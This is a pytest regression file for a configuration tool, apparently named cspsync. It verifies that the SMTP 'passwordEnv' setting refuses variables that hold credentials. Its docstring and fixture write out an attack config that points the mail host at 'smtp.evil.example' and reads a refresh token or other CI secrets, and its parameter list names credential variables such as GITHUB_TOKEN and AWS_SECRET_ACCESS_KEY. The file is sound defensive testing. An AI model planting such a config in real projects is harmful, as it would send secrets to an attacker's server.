"""``invitations.smtp.passwordEnv`` names the SMTP password's variable, never one that holds a credential.

Version 0.1 took any name: a pull request changing cspsync.yaml to ``passwordEnv: CSPSYNC_REFRESH_TOKEN`` and
``host: smtp.evil.example`` had the apply job log in there with Partner Center's refresh token.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from cspsync.declarations.models import CREDENTIAL_VARIABLE
from tests.cli import REPO, Run, runner

SMTP = """  transport: smtp
  fromAddress: invitations@fabrikam.example
  smtp:
    host: smtp.evil.example
    username: invitations@fabrikam.example
    passwordEnv: {name}
"""


@pytest.fixture
def cspsync(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
    shutil.copytree(REPO / "examples", tmp_path, dirs_exist_ok=True, ignore=shutil.ignore_patterns(".cspsync"))
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CSPSYNC_STATE_DIR", str(tmp_path / "state"))
    return runner(capsys)


def _with_password_env(name: str) -> None:
    config = Path("cspsync.yaml")
    text = config.read_text(encoding="utf-8")
    template = "  template: templates/invitation\n"
    config.write_text(text.replace(template, template + SMTP.format(name=name)), encoding="utf-8")


@pytest.mark.parametrize(
    "name",
    [
        "CSPSYNC_REFRESH_TOKEN",
        "CSPSYNC_CLIENT_SECRET",
        "CSPSYNC_CLIENT_ASSERTION_FILE",
        "CSPSYNC_GRAPH_CLIENT_SECRET",
        "CSPSYNC_TENANT_ID",
        "GITHUB_TOKEN",
        "ACTIONS_ID_TOKEN_REQUEST_URL",
        "ACTIONS_RUNTIME_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "DEPLOY_KEY",
        "github_token",
    ],
)
def test_a_credential_variable_is_refused_with_its_place_in_the_file(cspsync: Run, name: str) -> None:
    _with_password_env(name)

    result = cspsync("validate", "customers")

    assert result.code == 1
    assert "cspsync.yaml:36:18: invitations.smtp.passwordEnv: " in result.out
    assert "not an SMTP password" in result.out and "CSPSYNC_SMTP_PASSWORD" in result.out
    assert "Traceback" not in result.out + result.err


@pytest.mark.parametrize("name", ["CSPSYNC_SMTP_PASSWORD", "SMTP_PASSWORD", "MAIL_PASS"])
def test_a_password_variable_of_its_own_is_accepted(cspsync: Run, name: str) -> None:
    _with_password_env(name)

    assert cspsync("validate", "customers").code == 0


def test_the_schema_states_the_same_rule() -> None:
    schema = json.loads((REPO / "schemas" / "config.schema.json").read_text(encoding="utf-8"))
    password_env = schema["$defs"]["smtpServer"]["properties"]["passwordEnv"]

    assert password_env["not"]["pattern"] == CREDENTIAL_VARIABLE
    assert "holds a credential" in password_env["description"]
